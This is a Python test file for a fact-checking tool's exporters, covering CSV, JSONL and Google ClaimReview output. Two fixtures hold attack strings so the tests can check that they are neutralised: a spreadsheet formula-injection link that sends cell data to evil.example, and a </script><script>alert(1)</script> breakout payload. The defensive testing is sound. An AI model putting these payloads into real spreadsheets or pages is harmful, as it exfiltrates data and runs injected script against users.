from __future__ import annotations

import csv
import io
import json

from triage.config import Publisher
from triage.export import write_claimreview, write_csv, write_jsonl
from triage.models import DEFAULT_VERDICTS

CHECKS = Publisher(
    name="Harbour Checks",
    url="https://checks.example.org",
    review_url="https://checks.example.org/{id}/{slug}",
)

ROWS = [
    {
        "id": 1,
        "article_id": 7,
        "position": 0,
        "start": 0,
        "end": 30,
        "text": "The pier cost 2 million euros.",
        "score": 0.91,
        "kind": "quantity",
        "speaker": "the mayor",
        "status": "decided",
        "verdict": "False",
        "note": "Budget shows 3 million.",
        "updated_at": "2024-11-20T10:00:00.000+00:00",
        "article_title": "Pier reopens",
        "article_url": "https://example.org/pier",
        "article_outlet": "Harbour Gazette",
        "article_published": "2024-11-12",
    },
    {
        "id": 2,
        "article_id": 7,
        "position": 1,
        "start": 31,
        "end": 50,
        "text": "It opens in May.",
        "score": 0.55,
        "kind": "prediction",
        "speaker": "",
        "status": "undecided",
        "verdict": None,
        "note": "",
        "updated_at": "2024-11-20T10:00:00.000+00:00",
        "article_title": "Pier reopens",
        "article_url": "",
        "article_outlet": "",
        "article_published": "",
    },
]


def test_csv_has_a_header_and_a_row_per_claim() -> None:
    out = io.StringIO()
    assert write_csv(iter(ROWS), out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["text"] == "The pier cost 2 million euros."
    assert rows[0]["article_title"] == "Pier reopens"
    assert rows[1]["verdict"] == ""


def test_jsonl_carries_every_claim_field_and_the_article() -> None:
    out = io.StringIO()
    write_jsonl(iter(ROWS), out)
    first = json.loads(out.getvalue().splitlines()[0])
    for key in (
        "id",
        "start",
        "end",
        "text",
        "score",
        "kind",
        "speaker",
        "status",
        "verdict",
        "note",
        "updated_at",
        "article_title",
        "article_url",
    ):
        assert key in first
    assert first["note"] == "Budget shows 3 million."


def test_claimreview_has_googles_required_and_recommended_fields() -> None:
    out = io.StringIO()
    assert write_claimreview(iter(ROWS), out, verdicts=DEFAULT_VERDICTS, publisher=CHECKS) == 1
    [review] = json.loads(out.getvalue())
    assert review["@type"] == "ClaimReview"
    assert review["claimReviewed"] == "The pier cost 2 million euros."
    assert review["reviewRating"]["alternateName"] == "False"
    assert review["reviewRating"]["ratingValue"] == 1  # False is the worst on the truth scale
    assert review["url"] == "https://checks.example.org/1/the-pier-cost-2-million-euros"
    assert review["author"] == {
        "@type": "Organization",
        "name": "Harbour Checks",
        "url": "https://checks.example.org",
    }
    assert review["datePublished"] == "2024-11-20"
    assert review["itemReviewed"]["appearance"][0]["url"] == "https://example.org/pier"
    assert review["itemReviewed"]["author"]["name"] == "the mayor"


def test_claimreview_of_nothing_is_an_empty_list() -> None:
    out = io.StringIO()
    write_claimreview(iter(ROWS[1:]), out, verdicts=DEFAULT_VERDICTS, publisher=CHECKS)
    assert json.loads(out.getvalue()) == []


HOSTILE = dict(
    ROWS[0],
    id=3,
    text='=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    speaker="+Mayor",
    note="-2+3",
    article_title="@SUM(A1:A9)",
    article_outlet="\tTabbed",
    article_url="\rhttp://x",
    verdict="False",
)


def test_csv_cells_that_would_start_a_formula_are_quoted_as_owasp_advises() -> None:
    out = io.StringIO()
    write_csv(iter([ROWS[0], HOSTILE]), out)
    plain, hostile = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert hostile["text"] == "'" + HOSTILE["text"]
    assert hostile["speaker"] == "'+Mayor"
    assert hostile["note"] == "'-2+3"
    assert hostile["article_title"] == "'@SUM(A1:A9)"
    assert hostile["article_outlet"] == "'\tTabbed"
    assert hostile["article_url"] == "'\rhttp://x"
    # Ordinary cells and numbers are written as they are.
    assert plain["text"] == ROWS[0]["text"] and plain["score"] == "0.91"
    assert hostile["id"] == "3"


SCRIPT_BREAKER = dict(
    ROWS[0],
    text="The pier </script><script>alert(1)</script> cost A&B 2 million.",
    note="<!-- hidden -->",
    speaker="Tom & Jerry\u2028",
)


def test_claimreview_json_cannot_close_the_script_element_it_is_embedded_in() -> None:
    out = io.StringIO()
    write_claimreview(
        iter([SCRIPT_BREAKER]),
        out,
        verdicts=DEFAULT_VERDICTS,
        publisher=Publisher(name="<b>Checks</b>"),
    )
    page = out.getvalue()
    for raw in ("<", ">", "&", "\u2028"):
        assert raw not in page
    [review] = json.loads(page)  # escaped, yet the same data
    assert review["claimReviewed"] == SCRIPT_BREAKER["text"]
    assert review["reviewBody"] == "<!-- hidden -->"
    assert review["author"]["name"] == "<b>Checks</b>"


def test_jsonl_is_escaped_the_same_way_and_reads_back_exactly() -> None:
    out = io.StringIO()
    write_jsonl(iter([SCRIPT_BREAKER]), out)
    assert "</script>" not in out.getvalue() and "&" not in out.getvalue()
    assert json.loads(out.getvalue())["text"] == SCRIPT_BREAKER["text"]


def test_claimreview_names_the_publisher_and_the_person_who_signs() -> None:
    out = io.StringIO()
    signed = Publisher(
        name="Harbour Checks",
        url="https://checks.example.org",
        review_url="https://checks.example.org/c/{slug}?n={id}",
        author="Ana Lima",
    )
    accented = dict(
        ROWS[0], id=9, text="Zoë's café « a coûté » 2 millions d’euros en 2023, dit-il."
    )
    write_claimreview(iter([accented]), out, verdicts=DEFAULT_VERDICTS, publisher=signed)
    [review] = json.loads(out.getvalue())
    assert (
        review["url"]
        == "https://checks.example.org/c/zoe-s-cafe-a-coute-2-millions-d-euros-en-2023-dit-il?n=9"
    )
    assert review["creator"] == {"@type": "Person", "name": "Ana Lima"}
    assert review["author"]["name"] == "Harbour Checks"


def test_claimreview_without_a_publisher_invents_no_author() -> None:
    out = io.StringIO()
    write_claimreview(iter(ROWS), out, verdicts=DEFAULT_VERDICTS)
    [review] = json.loads(out.getvalue())
    assert "author" not in review and "creator" not in review
    assert review["url"] == "https://example.org/pier#triage-claim-1"
